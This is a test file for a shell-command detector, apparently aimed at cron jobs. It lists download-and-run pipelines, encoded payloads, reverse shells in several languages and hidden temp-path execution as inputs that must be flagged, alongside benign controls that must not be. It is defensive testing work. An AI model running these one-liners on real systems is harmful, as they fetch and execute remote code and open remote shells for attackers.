import { describe, expect, it } from 'vitest';
import { commandSignals, type SignalKind } from './command-signals.ts';

const kinds = (command: string): SignalKind[] => commandSignals(command).map((s) => s.kind);

describe('commandSignals: download and run', () => {
  it.each([
    ['curl | sh', 'curl -fsSL http://198.51.100.7/i.sh | sh'],
    ['wget -O- | sh', 'wget -q -O- http://198.51.100.7/i.sh | sh'],
    ['wget -qO- | bash -s', 'wget -qO- http://x/i | bash -s -- --quiet'],
    ['full paths and sudo', '/usr/bin/curl -s http://x/i | sudo -E /bin/bash -'],
    ['busybox wget', 'busybox wget -q -O - http://x/i | busybox sh'],
    ['via tee', 'curl -s http://x/i | tee /var/log/i | sh'],
    ['into python', 'curl -s http://x/a.py | python3'],
    ['subshell fallback', '(curl -fsSL http://x/i || wget -q -O- http://x/i) | sh'],
    ['bash -c "$(curl)"', 'bash -c "$(curl -fsSL http://x/i)"'],
    ['process substitution', 'bash <(curl -s http://x/i)'],
    ['source process substitution', '. <(wget -qO- http://x/i)'],
    ['eval', 'eval "$(curl -s http://x/i)"'],
    ['output run as a command', '$(curl -s http://x/cmd)'],
    ['download, chmod, run', 'curl -o /tmp/x http://x/bin && chmod +x /tmp/x && /tmp/x'],
    [
      'download with -sSLo cluster then run by sh',
      'curl -sSLo /var/tmp/u.sh http://x/u.sh; sh /var/tmp/u.sh',
    ],
    ['wget remote name in cwd', 'cd /root && wget http://x/kinsing && chmod +x kinsing && ./kinsing'],
    ['wget -O file', 'wget -q http://x/b -O /usr/local/bin/b; /usr/local/bin/b'],
    ['redirected download then run', 'curl -s http://x/a > /opt/a.sh; bash /opt/a.sh'],
    ['nested in sh -c', "sh -c 'curl -s http://x/i | sh'"],
    ['nested in su -c', "su - www-data -c 'wget -qO- http://x/i | sh'"],
    ['behind nohup and timeout', 'nohup timeout 60 curl -s http://x/i | sh >/dev/null 2>&1 &'],
    ['python urlopen + exec', `python -c "import urllib.request as u;exec(u.urlopen('http://x/p').read())"`],
    ['perl LWP + eval', `perl -MLWP::Simple -e 'eval get("http://x/p")'`],
    ['php remote include', `php -r 'include("http://x/p.txt");'`],
    ['nc | sh', 'nc 198.51.100.7 8080 | sh'],
  ])('%s', (_name, command) => {
    expect(kinds(command)).toContain('downloadExec');
  });
});

describe('commandSignals: encoded payloads', () => {
  it.each([
    ['echo b64 | base64 -d | sh', 'echo Y3VybCAtcyBodHRwOi8veC9pIHwgc2g= | base64 -d | sh'],
    ['base64 --decode | bash', 'echo aWQ= | base64 --decode | bash'],
    ['here-string', 'base64 -d <<< aWQgPiAvdG1wL28= | sh'],
    ['bash -c "$(… | base64 -d)"', 'bash -c "$(echo aWQ= | base64 -d)"'],
    ['python exec b64decode', `python -c "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"`],
    ['python __import__', `python3 -c "exec(__import__('base64').b64decode(b'cHJpbnQoMSk='))"`],
    ['perl MIME::Base64 eval', `perl -MMIME::Base64 -e 'eval(decode_base64("cHJpbnQgMQ=="))'`],
    ['php eval base64_decode', `php -r 'eval(base64_decode("ZWNobyAxOw=="));'`],
    ['xxd -r -p | sh', 'echo 6964 | xxd -r -p | sh'],
    ['openssl base64 -d', 'echo aWQ= | openssl base64 -d | sh'],
    ['printf hex escapes', `printf '\\x69\\x64\\x20\\x3e\\x2f' | sh`],
    ['rev | sh', "echo 'hs | i/x//:ptth s- lruc' | rev | bash"],
    [
      'decode to a file then run',
      'echo aWQ= | base64 -d > /usr/local/bin/u; chmod +x /usr/local/bin/u; /usr/local/bin/u',
    ],
  ])('%s', (_name, command) => {
    expect(kinds(command)).toContain('encodedPayload');
  });

  it('looks inside a literal payload: a base64 curl | sh is also a download', () => {
    expect(kinds('echo Y3VybCAtcyBodHRwOi8vNDUuOS4xNDguMTAvYi5zaCB8IGJhc2g= | base64 -d | bash')).toEqual([
      'downloadExec',
      'encodedPayload',
    ]);
    expect(kinds("echo 'hs | i/x//:ptth s- lruc' | rev | bash")).toEqual(['downloadExec', 'encodedPayload']);
    expect(commandSignals('echo L3RtcC8ueC9ydW4= | base64 -d | sh')).toEqual([
      { kind: 'encodedPayload', detail: 'base64 | sh' },
      { kind: 'tempPath', detail: 'base64 → /tmp/.x/run' },
      { kind: 'hiddenPath', detail: 'base64 → /tmp/.x/run' },
    ]);
  });
});

describe('commandSignals: reverse shells', () => {
  it.each([
    ['bash -i >& /dev/tcp', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
    ['sh -i with /dev/udp', 'sh -i >& /dev/udp/198.51.100.7/53 0>&1'],
    ['bash -c wrapper', "/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'"],
    ['login shell, stdout to socket, stdin dup', '/bin/bash -l > /dev/tcp/198.51.100.7/80 0<&1 2>&1'],
    ['exec fd + sh', '0<&196;exec 196<>/dev/tcp/198.51.100.7/4242; sh <&196 >&196 2>&196'],
    [
      'exec fd + read loop',
      'exec 5<>/dev/tcp/198.51.100.7/80;cat <&5 | while read line; do $line 2>&5 >&5; done',
    ],
    ['nc -e', 'nc -e /bin/sh 198.51.100.7 4444'],
    ['ncat --sh-exec', 'ncat 198.51.100.7 4444 --sh-exec "bash -li"'],
    ['nc cluster', 'nc.traditional -nve /bin/bash 198.51.100.7 4444'],
    ['socat exec', "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.7:4444"],
    ['mkfifo + nc', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 1234 >/tmp/f'],
    ['mknod + telnet', 'mknod /tmp/p p && telnet 198.51.100.7 80 0</tmp/p | /bin/bash 1>/tmp/p'],
    [
      'python socket + dup2',
      `python -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
    ],
    [
      'perl socket + exec',
      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(9,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");'`,
    ],
    ['php fsockopen', `php -r '$s=fsockopen("198.51.100.7",9);exec("/bin/sh -i <&3 >&3 2>&3");'`],
    [
      'ruby TCPSocket',
      `ruby -rsocket -e 'f=TCPSocket.open("198.51.100.7",9).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
    ],
    [
      'gawk /inet/tcp',
      `awk 'BEGIN {s = "/inet/tcp/0/198.51.100.7/9"; while(1){s |& getline c; print c |& s}}'`,
    ],
  ])('%s', (_name, command) => {
    expect(kinds(command)).toContain('reverseShell');
  });
});

describe('commandSignals: temporary and hidden locations', () => {
  it.each([
    ['/tmp program', '/tmp/.x/run', ['tempPath', 'hiddenPath'], '/tmp/.x/run'],
    ['/var/tmp program', '/var/tmp/update --daemon', ['tempPath'], '/var/tmp/update'],
    ['/dev/shm program', 'nohup /dev/shm/k >/dev/null 2>&1', ['tempPath'], '/dev/shm/k'],
    ['script run by a shell', 'bash /tmp/b.sh', ['tempPath'], '/tmp/b.sh'],
    ['script run by python', 'python3 -u /var/tmp/p.py', ['tempPath'], '/var/tmp/p.py'],
    ['sourced', '. /dev/shm/env', ['tempPath'], '/dev/shm/env'],
    ['relative after cd', 'cd /tmp && ./x', ['tempPath'], '/tmp/x'],
    ['sh -c nested', "sh -c '/tmp/x'", ['tempPath'], '/tmp/x'],
    ['find -exec runs a program', 'find / -name a -exec /tmp/y {} ;', ['tempPath'], '/tmp/y'],
    ['dot-dot normalised', '/var/../tmp/z', ['tempPath'], '/tmp/z'],
    ['hidden dir', '/root/.x/.bin', ['hiddenPath'], '/root/.x/.bin'],
    ['hidden under home', '~/.cache/kdevtmpfsi', ['hiddenPath'], '~/.cache/kdevtmpfsi'],
    ['hidden file name', '/usr/bin/.sshd -D', ['hiddenPath'], '/usr/bin/.sshd'],
    ['hidden after cd', 'cd /root/.ssh && ./agent', ['hiddenPath'], '/root/.ssh/agent'],
    ['quoted pieces joined', '"/var/lib/.cache"/w', ['hiddenPath'], '/var/lib/.cache/w'],
  ])('%s', (_name, command, expected, detail) => {
    const signals = commandSignals(command);
    expect(signals.map((s) => s.kind)).toEqual(expected);
    expect(signals[0]!.detail).toBe(detail);
  });
});

describe('commandSignals: controls that must stay clean', () => {
  it.each([
    ['run-parts', 'cd / && run-parts --report /etc/cron.hourly'],
    ['anacron guard', 'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )'],
    [
      'anacron guard with braces',
      'test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }',
    ],
    [
      'php sessionclean',
      '[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi',
    ],
    [
      'e2scrub',
      'test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron',
    ],
    [
      'certbot',
      "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew",
    ],
    [
      'health ping',
      'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/0f3c5e4a-0000-4000-8000-000000000000',
    ],
    ['health ping > /dev/null', 'curl -fsS --retry 3 https://hc-ping.com/abc > /dev/null'],
    ['wget to /dev/null', 'wget -q -O /dev/null "https://example.com/wp-cron.php?doing_wp_cron"'],
    ['wget -O- to /dev/null', 'wget -q -O - https://example.com/cron.php >/dev/null 2>&1'],
    ['download kept, never run', 'curl -s -o /var/backups/feed.xml https://example.com/feed.xml'],
    ['tmp path as an argument', 'find /tmp -mtime +7 -delete'],
    ['tmp cleanup', 'tmpreaper 7d /tmp /var/tmp'],
    ['rm in tmp', 'rm -rf /tmp/cache/*'],
    ['tmp as a log target', '/usr/local/bin/job > /tmp/job.log 2>&1'],
    ['acme.sh in its hidden home', '"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null'],
    ['virtualenv python', '/srv/app/.venv/bin/python manage.py clearsessions'],
    ['hidden path as an argument', 'tar czf /backup/ssh.tgz /root/.ssh'],
    ['base64 encode', 'tar c /etc | base64 > /backup/etc.b64'],
    ['decode to a file, not run', 'base64 -d /srv/in.b64 > /srv/out.bin'],
    ['port probe with /dev/tcp', "timeout 1 bash -c '</dev/tcp/127.0.0.1/3306' || systemctl restart mysql"],
    [
      'socket health check in python',
      `python3 -c "import socket; socket.create_connection(('db', 5432), 3)"`,
    ],
    ['nc port check', 'nc -z -w 3 127.0.0.1 6379 || systemctl restart redis'],
    ['backup over nc', 'mysqldump --all-databases | gzip | nc backup.internal 9000'],
    ['logrotate script line', '/usr/sbin/logrotate /etc/logrotate.conf'],
    ['logger with variable', '/usr/bin/logger -t logrotate "ALERT exited abnormally with [$EXITVALUE]"'],
    [
      'apt-compat random sleep',
      "RANDOM=$(( $(dd if=/dev/urandom bs=2 count=1 2> /dev/null | cksum | cut -d' ' -f1) % 32767 ))",
    ],
    ['apt-config eval', 'eval $(apt-config shell RandomSleep APT::Periodic::RandomSleep)'],
    [
      'man-db',
      'start-stop-daemon --start --pidfile /dev/null --startas /usr/bin/mandb --oknodo --chuid man $iosched_idle -- --quiet',
    ],
    ['dpkg backup', '/usr/libexec/dpkg/dpkg-db-backup'],
    ['php artisan', 'cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1'],
    ['sh with a system script', 'sh /usr/local/sbin/backup.sh'],
    ['exit line', 'exit $EXITVALUE'],
  ])('%s', (_name, command) => {
    expect(commandSignals(command)).toEqual([]);
  });
});
